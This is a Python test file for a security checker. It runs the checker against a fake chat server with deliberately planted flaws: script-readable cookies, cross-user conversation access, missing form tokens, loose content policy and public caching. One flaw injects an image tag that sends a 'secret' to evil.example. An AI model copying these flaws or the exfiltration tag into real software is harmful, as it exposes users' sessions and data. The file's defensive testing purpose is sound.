"""Area chat against workspaces that misbehave in one respect (S7, S8, S11, rules 22 and 24)."""

import json
import re
from dataclasses import dataclass, field
from uuid import uuid4

import pytest

from infra.prove.areas.chat import check_chat
from infra.prove.check import Book
from tests.prove.fakes import SOUND_HEADERS, Reply, Request, front

NONE = {"code": "conversation", "message": "There is no such conversation."}


@dataclass
class Workspace:
    """Sound but for the names in `holes`. Cookies are `guest=1.TOKEN`, a form's token is the cookie's reverse."""

    holes: frozenset[str] = frozenset()
    visits: dict[str, str] = field(default_factory=dict)
    """Cookie -> its conversation."""

    def __call__(self, request: Request) -> Reply:
        cookie = request.headers.get("Cookie", "").removeprefix("guest=")
        if request.method == "GET":
            return self.read(request.path, cookie)
        return self.change(request, cookie)

    def read(self, path: str, cookie: str) -> Reply:
        known = self.known(cookie)
        if path == "/":
            return 200, {**SOUND_HEADERS, **({"Set-Cookie": "guest=1.x"} if "tracks" in self.holes else {})}, "page"
        if path == "/api/v1/conversations":
            return 200, SOUND_HEADERS, json.dumps([{"conversation_id": known}] if known else [])
        wanted = self.named(path)
        if path.startswith("/live") and not known and "open stream" not in self.holes:
            return 401, SOUND_HEADERS, "{}"
        if wanted not in self.seen_by(known):
            return self.none(wanted)
        shown = '<p>&lt;img src=https://evil.example/i.png&gt; <a href="https://evil.example/p.png">x</a></p>'
        loading = '<img src="https://evil.example/p.png?q=secret">' if "remote picture" in self.holes else ""
        policy = SOUND_HEADERS["Content-Security-Policy"] + ("; img-src *" if "loose policy" in self.holes else "")
        kept = {"Cache-Control": "public, max-age=60"} if "kept by others" in self.holes else {}
        return 200, {**SOUND_HEADERS, "Content-Security-Policy": policy, **kept}, shown + loading

    def change(self, request: Request, cookie: str) -> Reply:
        known, path = self.known(cookie), request.path
        if "Origin" in request.headers and "foreign origin" not in self.holes:
            return 403, SOUND_HEADERS, "{}"
        if path == "/api/v1/turns" and not cookie:
            return self.begin()
        if request.headers.get("X-Form-Token") != cookie[::-1] and "no token" not in self.holes:
            return 403, SOUND_HEADERS, "{}"
        if path == "/api/v1/me/visit":
            if "outlives" not in self.holes:
                self.visits.pop(cookie, None)
            return 204, SOUND_HEADERS, ""
        if self.named(path) not in self.seen_by(known):
            return self.none(self.named(path))
        return 200, SOUND_HEADERS, "{}"

    def begin(self) -> Reply:
        cookie, conversation = f"1.{uuid4().hex}", str(uuid4())
        self.visits[cookie] = conversation
        flags = "; Path=/; SameSite=lax" + ("" if "cookie for scripts" in self.holes else "; HttpOnly")
        said = {"token": cookie[::-1], "conversation_id": conversation}
        return 200, {**SOUND_HEADERS, "Set-Cookie": f"guest={cookie}{flags}"}, json.dumps(said)

    def known(self, cookie: str) -> str:
        if "by prefix" in self.holes:
            return next((found for each, found in self.visits.items() if cookie and each.startswith(cookie)), "")
        if "by conversation" in self.holes and cookie in self.visits.values():
            return cookie
        if "anything goes" in self.holes and cookie:
            return self.visits.get(cookie) or next(iter(self.visits.values()), "")
        return self.visits.get(cookie, "")

    def seen_by(self, known: str) -> set[str]:
        return set(self.visits.values()) if "reads others" in self.holes else {known} if known else set()

    def named(self, path: str) -> str:
        found = re.search(r"[0-9a-f-]{36}", path)
        return found[0] if found else ""

    def none(self, wanted: str) -> Reply:
        told = (
            NONE
            if "tells apart" not in self.holes or wanted not in self.visits.values()
            else {**NONE, "message": "not yours"}
        )
        return 404, SOUND_HEADERS, json.dumps(told)


async def faults(*holes: str) -> list[str]:
    book = Book("test")
    with front(Workspace(frozenset(holes))) as base:
        await check_chat(book, base, "mitre")
    return [f"{check.actor}: {check.attempt}: {check.got}" for check in book.checks if not check.ok]


async def test_a_sound_workspace_has_no_fault() -> None:
    assert await faults() == []


@pytest.mark.parametrize(
    ("hole", "found_by"),
    [
        ("tracks", "who only looks is given nothing"),
        ("cookie for scripts", "cookie guest: the first message"),
        ("reads others", "another guest: GET /c/{} is refused"),
        ("reads others", "another guest: DELETE /api/v1/conversations/{}"),
        ("tells apart", "another guest: GET /api/v1/conversations/{}/messages"),
        ("open stream", "nobody: GET /live"),
        ("by conversation", "the id of another's conversation finds"),
        ("by prefix", "another's cookie, cut finds"),
        ("anything goes", "a made-up cookie finds"),
        ("anything goes", "a person's id finds"),
        ("no token", "POST /api/v1/conversations/{}/clear without a token"),
        ("no token", "DELETE /api/v1/conversations/{} with a made-up token"),
        ("foreign origin", "a foreign page: PATCH"),
        ("remote picture", "pictures and scripts in what was said"),
        ("loose policy", "its policy lets nothing in from elsewhere"),
        ("kept by others", "nobody may keep it: a conversation"),
        ("outlives", "the cookie of a visit that is over finds"),
    ],
)
async def test_a_hole_is_found(hole: str, found_by: str) -> None:
    found = await faults(hole)
    assert any(found_by in each for each in found), found
